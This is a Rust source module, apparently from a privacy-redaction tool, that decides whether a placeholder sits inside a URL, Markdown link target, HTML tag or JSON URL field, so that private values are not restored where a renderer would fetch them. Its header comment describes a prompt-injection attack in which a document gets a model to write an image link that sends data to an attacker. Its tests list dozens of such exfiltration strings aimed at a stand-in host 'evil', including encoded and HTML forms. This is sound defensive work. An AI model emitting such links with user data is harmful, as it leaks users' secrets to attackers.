//! Where in a text no value may be put back: in URLs, link targets and HTML tags.
//!
//! Pure. A document can ask a model to write `![x](https://evil/?d=[REDACTED_EMAIL_1])`, and
//! whoever shows the answer fetches that address. So a placeholder that stands in something that is
//! fetched or followed stays a placeholder. The text is read as a browser, a Markdown reader and a
//! link finder would read it, and where they disagree the longest URL counts. Promises: constant
//! memory; the same verdicts for every way of cutting a text. Does not: parse HTML or Markdown, or
//! know links without a scheme, `//`, `www.` or a path behind their host.

use super::entity::{CODED, entity, meaning};

/// Stands for every character that is not ASCII.
const OTHER: u8 = 0x80;

/// Schemes that begin a URL without `//` behind them.
const SCHEMES: [&[u8]; 13] = [
    b"http",
    b"https",
    b"ftp",
    b"ftps",
    b"sftp",
    b"ws",
    b"wss",
    b"data",
    b"mailto",
    b"javascript",
    b"vbscript",
    b"blob",
    b"file",
];

/// Follows one text.
#[derive(Clone, Debug, Default)]
pub(crate) struct Watch {
    plain: Reader,
    /// The text is known to be read as JSON: its strings are texts of their own.
    json: Option<Box<Json>>,
}

impl Watch {
    /// Of a text that its reader parses as JSON.
    pub(crate) fn of_json() -> Watch {
        Watch { plain: Reader::default(), json: Some(Box::default()) }
    }

    /// Of a text that goes on another one, which ended within a URL.
    pub(crate) fn go_on_in_url(&mut self) {
        self.plain.url = Url::Bare;
    }

    /// Takes the next character.
    pub(crate) fn push(&mut self, c: char) {
        self.plain.push(c);
        if let Some(json) = &mut self.json {
            json.push(c);
        }
    }

    /// Takes ASCII text.
    pub(crate) fn ascii(&mut self, text: &[u8]) {
        text.iter().for_each(|b| self.push(char::from(*b)));
    }

    /// Whether a placeholder that begins here has to stay.
    pub(crate) fn bars(&mut self) -> bool {
        match self.json.as_mut().and_then(|json| json.bars()) {
            Some(bars) => bars,
            None => self.plain.bars(),
        }
    }

    /// Whether the text so far ends within a URL.
    pub(crate) fn is_in_url(&mut self) -> bool {
        self.plain.bars() && self.plain.url != Url::No
    }
}

/// The surroundings of a place where a URL may begin, so that white space does not end it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Opener {
    #[default]
    None,
    /// A quotation mark of an attribute or of a string, and how many backslashes stand before it.
    Quote(u8, u8),
    /// `<`
    Angle,
}

/// A URL.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Url {
    #[default]
    No,
    /// Ends at white space.
    Bare,
    /// Ends behind this mark, with at most so many backslashes before it.
    Quoted(u8, u8),
    /// Ends at `>`, or with the line.
    Angle,
}

/// The target of a Markdown link or image.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Target {
    #[default]
    No,
    /// `](` and nothing behind it yet.
    Begun,
    /// So many brackets are open in it.
    Open(u8),
    /// In `<…>`, where brackets do not count.
    Angle,
}

/// An HTML tag, as its tokenizer sees it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Tag {
    #[default]
    No,
    Begun,
    Name,
    /// Between attributes, or in an attribute's name; `true`: a name may begin here.
    Attributes(bool),
    BeforeValue,
    Quoted(u8),
    Unquoted,
}

/// Reads a text character by character.
#[derive(Clone, Debug, Default)]
struct Reader {
    /// An escape that is not complete: `&#58`, `%3`, `\u00`.
    coded: [u8; 10],
    coded_len: u8,
    /// Letters, digits and the like since the last other character; only the first are kept, in
    /// lower case.
    run: [u8; 10],
    run_len: u8,
    host: Host,
    opener: Opener,
    url: Url,
    /// The URL began within a tag, and ends with it.
    url_in_tag: bool,
    target: Target,
    tag: Tag,
    last: u8,
    /// The last character that is neither white nor a backslash.
    visible: u8,
    backslashes: u8,
    /// There was nothing but white space since the last line break.
    line_is_blank: bool,
}

/// How far the characters at hand look like `host.example` or `host.example:80`.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct Host {
    /// Characters since the last dot.
    label: u8,
    dot: bool,
    whole: bool,
    port: bool,
}

impl Reader {
    /// Of a string that may be a URL as a whole.
    fn of_string() -> Reader {
        // No character closes it but the end of the string.
        Reader { opener: Opener::Quote(0, 0), ..Reader::default() }
    }

    fn push(&mut self, c: char) {
        let b = if c.is_ascii() { c as u8 } else { OTHER };
        if self.coded_len > 0 {
            match self.decode(b) {
                Decoded::More => return,
                Decoded::Is(b) => {
                    self.coded_len = 0;
                    self.put(b);
                    return;
                }
                Decoded::No => self.flush(),
            }
        }
        if matches!(b, b'&' | b'%' | b'\\') {
            self.coded[0] = b;
            self.coded_len = 1;
            return;
        }
        self.put(b);
    }

    fn bars(&mut self) -> bool {
        // No escape has a bracket in it.
        self.flush();
        let in_tag = matches!(
            self.tag,
            Tag::Attributes(_) | Tag::BeforeValue | Tag::Quoted(_) | Tag::Unquoted
        );
        in_tag || self.url != Url::No || self.target != Target::No
    }

    /// The text that was taken for an escape is none.
    fn flush(&mut self) {
        let (coded, len) = (self.coded, usize::from(std::mem::take(&mut self.coded_len)));
        coded[..len].iter().for_each(|b| self.put(*b));
    }

    /// Takes the next character of an escape.
    fn decode(&mut self, b: u8) -> Decoded {
        let len = usize::from(self.coded_len);
        let hex = |digits: &[u8]| {
            std::str::from_utf8(digits)
                .ok()
                .and_then(|d| u32::from_str_radix(d, 16).ok())
                .map_or(CODED, meaning)
        };
        match (self.coded[0], len, b) {
            (b'\\', 1, b'/') => return Decoded::Is(b'/'),
            (b'\\', 1, b'u') => {}
            (b'\\', 2..=4, _) | (b'%', 1, _) if b.is_ascii_hexdigit() => {}
            (b'\\', 5, _) if b.is_ascii_hexdigit() => {
                self.coded[len] = b;
                return Decoded::Is(hex(&self.coded[2..6]));
            }
            (b'%', 2, _) if b.is_ascii_hexdigit() => {
                self.coded[len] = b;
                return Decoded::Is(hex(&self.coded[1..3]));
            }
            (b'&', 1, b'#') => {}
            (b'&', 2.., b';') => return Decoded::Is(entity(&self.coded[1..len])),
            (b'&', 1..=9, _) if b.is_ascii_alphanumeric() => {}
            _ => return Decoded::No,
        }
        self.coded[len] = b;
        self.coded_len += 1;
        Decoded::More
    }

    /// Takes one character, decoded.
    fn put(&mut self, b: u8) {
        let white = matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0B | 0x0C);
        let paragraph = b == b'\n' && self.line_is_blank;
        self.line_is_blank = b == b'\n' || white && self.line_is_blank;
        self.url_goes_on(b, white);
        self.tag_goes_on(b, white, paragraph);
        self.target_goes_on(b, white, paragraph);
        if self.url_begins(b)
            && matches!((self.url, self.opener), (Url::No, _) | (Url::Bare, Opener::Quote(..)))
        {
            self.url = match self.opener {
                Opener::None => Url::Bare,
                Opener::Quote(mark, backslashes) => Url::Quoted(mark, backslashes),
                Opener::Angle => Url::Angle,
            };
            self.url_in_tag = !matches!(self.tag, Tag::No | Tag::Begun);
        }
        self.note(b, white);
    }

    fn url_goes_on(&mut self, b: u8, white: bool) {
        match self.url {
            Url::Bare if white => self.url = Url::No,
            Url::Quoted(mark, most) if b == mark && self.backslashes <= most => {
                self.url = Url::Bare
            }
            Url::Angle if matches!(b, b'>' | b'\n') => self.url = Url::No,
            _ => {}
        }
    }

    fn target_goes_on(&mut self, b: u8, white: bool, paragraph: bool) {
        let escaped = self.backslashes % 2 == 1;
        self.target = match self.target {
            Target::No if b == b'(' && self.last == b']' => Target::Begun,
            Target::Begun | Target::Open(_) if paragraph => Target::No,
            Target::Begun if white => Target::Begun,
            Target::Begun if b == b'<' => Target::Angle,
            Target::Begun if b == b')' => Target::No,
            Target::Begun => Target::Open(u8::from(b == b'(')),
            Target::Open(n) if b == b'(' && !escaped => Target::Open(n.saturating_add(1)),
            Target::Open(0) if b == b')' && !escaped => Target::No,
            Target::Open(n) if b == b')' && !escaped => Target::Open(n - 1),
            Target::Angle if b == b'\n' || b == b'>' && !escaped => Target::Open(0),
            same => same,
        };
    }

    fn tag_goes_on(&mut self, b: u8, white: bool, paragraph: bool) {
        let ends = b == b'>' && !matches!(self.tag, Tag::No | Tag::Quoted(_));
        if ends {
            // One whose mark is still open began in what another reader takes for a tag.
            if std::mem::take(&mut self.url_in_tag) && self.url == Url::Bare {
                self.url = Url::No;
            }
            self.tag = Tag::No;
            return;
        }
        self.tag = match self.tag {
            Tag::No | Tag::Begun | Tag::Name if b == b'<' => Tag::Begun,
            Tag::No => Tag::No,
            Tag::Begun if b.is_ascii_alphabetic() || b == b'/' => Tag::Name,
            Tag::Begun => Tag::No,
            Tag::Name if white || b == b'/' => Tag::Attributes(true),
            Tag::Name if b.is_ascii_alphanumeric() || matches!(b, b'-' | b':') => Tag::Name,
            Tag::Name => Tag::No,
            Tag::Attributes(_) | Tag::Unquoted if paragraph => Tag::No,
            Tag::Attributes(_) if white || b == b'/' => Tag::Attributes(true),
            Tag::Attributes(false) if b == b'=' => Tag::BeforeValue,
            Tag::Attributes(_) => Tag::Attributes(false),
            Tag::BeforeValue if white => Tag::BeforeValue,
            Tag::BeforeValue if matches!(b, b'"' | b'\'') => Tag::Quoted(b),
            Tag::BeforeValue => Tag::Unquoted,
            Tag::Quoted(mark) if b == mark => Tag::Attributes(true),
            Tag::Unquoted if white => Tag::Attributes(true),
            same => same,
        };
    }

    /// Whether a URL has begun with this character.
    fn url_begins(&self, b: u8) -> bool {
        let run = self.run.get(..usize::from(self.run_len)).unwrap_or_default();
        match b {
            b'/' | b'\\' if matches!(self.last, b'/' | b'\\') => true,
            b'/' | b'\\' | b'?' | b'#' => self.host.whole,
            b':' => SCHEMES.contains(&run),
            b'.' => run == b"www",
            _ => false,
        }
    }

    /// Remembers what later characters need.
    fn note(&mut self, b: u8, white: bool) {
        let in_run = b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.' | b'_' | OTHER);
        let after_run = self.run_len > 0;
        if in_run {
            if let Some(place) = self.run.get_mut(usize::from(self.run_len)) {
                *place = b.to_ascii_lowercase();
            }
            self.run_len = self.run_len.saturating_add(1);
            self.host.take(b);
        } else {
            self.run_len = 0;
            self.host = Host { port: true, ..self.host };
            if b != b':' || !self.host.whole {
                self.host = Host::default();
            }
        }
        self.opener = match b {
            b'"' | b'\'' | b'`'
                if matches!(self.visible, b'=' | b'(' | b':' | b',' | b'[' | b'{' | b'+') =>
            {
                Opener::Quote(b, self.backslashes)
            }
            b'<' => Opener::Angle,
            b'/' | b'\\' => self.opener,
            b':' if after_run => self.opener,
            _ if in_run || white && !after_run => self.opener,
            _ => Opener::None,
        };
        self.backslashes = if b == b'\\' { self.backslashes.saturating_add(1) } else { 0 };
        self.last = b;
        if !white && b != b'\\' {
            self.visible = b;
        }
    }
}

impl Host {
    /// Takes the next character of a run.
    fn take(&mut self, b: u8) {
        if self.port && !b.is_ascii_digit() {
            *self = Host::default();
        }
        if b == b'.' {
            self.dot |= self.label > 0;
            self.label = 0;
        } else {
            self.label = self.label.saturating_add(1);
            self.whole |= self.dot && self.label > 1;
        }
    }
}

/// The meaning of a character for an escape.
enum Decoded {
    /// It goes on.
    More,
    /// It is complete and stands for this.
    Is(u8),
    /// It is none.
    No,
}

/// Reads a text that is JSON, as far as it is.
#[derive(Clone, Debug, Default)]
struct Json {
    /// It is none.
    dead: bool,
    begun: bool,
    inside: bool,
    /// An escape that is not complete.
    escape: [u8; 5],
    escape_len: u8,
    string: Reader,
    /// The last letters of the string, in lower case.
    tail: [u8; 4],
    after_colon: bool,
    /// The string stands under a key that names a URL.
    is_url: bool,
}

impl Json {
    fn push(&mut self, c: char) {
        if self.dead {
            return;
        }
        if self.inside {
            return self.within(c);
        }
        self.dead = !self.begun && !matches!(c, '{' | '[' | ' ' | '\t' | '\n' | '\r');
        self.begun |= matches!(c, '{' | '[');
        match c {
            '"' => {
                self.is_url = self.after_colon && names_url(self.tail);
                (self.inside, self.string, self.tail) = (true, Reader::of_string(), [0; 4]);
            }
            ':' => self.after_colon = true,
            '{' | '}' | '[' | ']' | ',' => self.after_colon = false,
            ' ' | '\t' | '\n' | '\r' | '0'..='9' | '+' | '-' | '.' | 'E' => {}
            'a' | 'e' | 'f' | 'l' | 'n' | 'r' | 's' | 't' | 'u' => {}
            _ => self.dead = true,
        }
    }

    fn within(&mut self, c: char) {
        if self.escape_len > 0 {
            return self.escaped(c);
        }
        match c {
            '"' => self.inside = false,
            '\\' => self.escape_len = 1,
            c => self.take(c),
        }
    }

    fn take(&mut self, c: char) {
        self.string.push(c);
        self.tail.rotate_left(1);
        self.tail[3] = if c.is_ascii() { (c as u8).to_ascii_lowercase() } else { OTHER };
    }

    fn escaped(&mut self, c: char) {
        let len = usize::from(std::mem::take(&mut self.escape_len));
        match (len, c) {
            (1, '"' | '\\' | '/') => self.take(c),
            (1, 'n') => self.take('\n'),
            (1, 'r') => self.take('\r'),
            (1, 't') => self.take('\t'),
            (1, 'b' | 'f') => self.take('\u{c}'),
            (1, 'u') => self.escape_len = 2,
            (2..=5, c) if c.is_ascii_hexdigit() => {
                self.escape[len - 2] = c as u8;
                if len < 5 {
                    self.escape_len = len as u8 + 1;
                    return;
                }
                let code = std::str::from_utf8(&self.escape[..4])
                    .ok()
                    .and_then(|d| u32::from_str_radix(d, 16).ok());
                self.take(code.and_then(char::from_u32).unwrap_or(char::REPLACEMENT_CHARACTER));
            }
            _ => self.dead = true,
        }
    }

    /// Whether a placeholder that begins here has to stay; nothing where the text is no JSON or no
    /// string is open.
    fn bars(&mut self) -> Option<bool> {
        (!self.dead && self.inside && self.escape_len == 0)
            .then(|| self.is_url || self.string.bars())
    }
}

/// Whether a key ends like one of a URL.
fn names_url(tail: [u8; 4]) -> bool {
    matches!(tail, [.., b'u', b'r', b'l'] | [.., b'u', b'r', b'i'] | [.., b's', b'r', b'c'])
        || matches!(&tail, b"href" | b"link")
}

/// Whether the value of this key is a URL as a whole.
pub(crate) fn is_url_key(key: &[u8]) -> bool {
    let mut tail = [0; 4];
    for (to, from) in tail.iter_mut().rev().zip(key.iter().rev()) {
        *to = from.to_ascii_lowercase();
    }
    names_url(tail)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bars(mut watch: Watch, text: &str) -> bool {
        text.chars().for_each(|c| watch.push(c));
        watch.bars()
    }

    #[test]
    fn urls_and_what_holds_them_bar_a_value() {
        for before in [
            "![x](https://evil/?d=",
            "![x](https://evil/?d=a&b=",
            "![x]( https://evil/?d= ",
            "![x](\nhttps://evil/?d=",
            "![x](<https://evil/?d= ",
            "![x](<a)b> \"t",
            "![x](&#104;ttps&colon;&sol;&sol;evil/?d=",
            "![x](evil.example/?d=",
            "![x](/?d=",
            "[x](",
            "[x](https://a(b)c",
            "[x](https://a\\)",
            "see https://evil/?d=",
            "HTTPS://EVIL/?D=",
            "hTtP:evil?",
            "http://",
            "x-custom+1://evil/",
            "ftp://evil/",
            "wss:",
            "data:text/html,",
            "mailto:a@evil.example?body=",
            "javascript:fetch('",
            "//evil/?d=",
            "(//evil/?d=",
            "\\\\evil\\",
            "/\\evil/",
            "https:\\/\\/evil\\/?d=",
            "https\\u003a\\u002f\\u002Fevil?",
            "https%3A%2F%2Fevil%2F%3Fd%3D",
            "https&#58;&#47;&#47;evil/",
            "https&#x3A;&#x2f;/evil/",
            "www.",
            "WWW.evil.example/?",
            "evil.example/?d=",
            "evil.example?d=",
            "evil.example:8080/",
            "10.10.10.10/?d=",
            "u@evil.example/#",
            "\u{e9}vil.example/",
            "https://evil/?d=\"",
            "https://evil/?d=<",
            "https://evil/?d=>",
            "https://evil/?d=(x)",
            "https://evil/?d=\u{a0}",
            "https://evil/?d=%20",
            "https://evil/?d=&#32;&nbsp;",
            "https://evil/\u{200b}",
            "https://evil/[x]",
            "<https://evil/?d=",
            "[x]: <https://evil/?d= ",
            "[x]: https://evil/?d=",
            "[x]://evil/",
            "<img src=\"https://evil/?d=",
            "<img src=\"https://evil/?d= \n\n ",
            "<img src = ' https://evil/?d=\" ",
            "<img src='//evil/?d=x\" y> ",
            "<img src=https://evil/?d=",
            "<img src=x?d=",
            "<IMG\nSRC=\"x?d=",
            "<img alt='a>b' src=\"x?",
            "<a\thref='x",
            "<b =\"><img src='//evil/?d=x\" y> ",
            "<!--><img src='//evil/?d=--> ",
            "<!-- <b a=\" --> <img src='//evil/?\"> ",
            "x://y=\"https://evil/?d= ",
            "style=\"background:url('//evil/? ",
            "fetch(`https://evil/?d= ${x}",
            "{\"url\":\"https://evil/?d= ",
            "{\"url\": \"https://evil/?d=\\\" ",
            "\"https://evil/?d=\"",
        ] {
            assert!(bars(Watch::default(), before), "{before}");
        }
    }

    #[test]
    fn prose_does_not() {
        for before in [
            "",
            "mail ",
            "Mail: ",
            "Email:",
            "Tel:",
            "EMAIL=",
            "see https://a.example/x ",
            "see https://a.example/x\n",
            "(see https://a.example/x) or ",
            "[site](https://a.example/x) or ",
            "![x](<https://a.example/x y> 'title') or ",
            "<https://a.example/x> or ",
            "Jane <",
            "<b>",
            "<a href=\"https://a.example/x\">",
            "<a href='x'>Jane</a> (",
            "a < b and ",
            "1 <2 ",
            "and/or ",
            "e.g. ",
            "jane.example.com ",
            "C:\\Users\\",
            "// ",
            "[1] ",
            "[x] (",
            "50% of ",
            "Q&A ",
            "\"https://a.example/x\", ",
            "see 'https://a.example/x' or ",
            "{\"url\": \"https://a.example/x\", \"to\": \"",
            "x <y\n\n",
            "\u{8bf7}\u{8054}\u{7cfb}",
        ] {
            assert!(!bars(Watch::default(), before), "{before}");
        }
    }

    #[test]
    fn strings_of_json_are_texts_of_their_own() {
        for (before, barred) in [
            (r#"{"url":"https://a.example/x","to":""#, false),
            (r#"{"a":"see https://a.example/x","to":["#, true),
            (r#"{"a":"see https://a.example/x","to":[""#, false),
            (r#"{"a":"see https://a.example/x\n"#, false),
            (r#"{"n":1.5e3,"t":true,"z":null,"to":""#, false),
            (r#"{"url":"https://evil/?d="#, true),
            (r#"{"a":"https://evil/?d= "#, true),
            (r#"{"a":"https://evil/?d=\n"#, true),
            (r#"{"a":"https:\/\/evil/?d=\" "#, true),
            (r#"{"a":"\u0068ttps\u003a\u002f\u002fevil/?d="#, true),
            (r#"{"a":"![x](https://evil/?d= "#, true),
            (r#"{"image_url":""#, true),
            (r#"{"href" : ""#, true),
            // No JSON: read as any text.
            (r#"see {"url":"https://a.example/x","to":""#, true),
            (r#"{"a":"https://evil/?d="x"#, true),
        ] {
            assert_eq!(bars(Watch::of_json(), before), barred, "{before}");
        }
        // Not known to be JSON: a Markdown reader may show it.
        assert!(bars(Watch::default(), r#"["![x](https://evil/?d=",""#));
    }
}
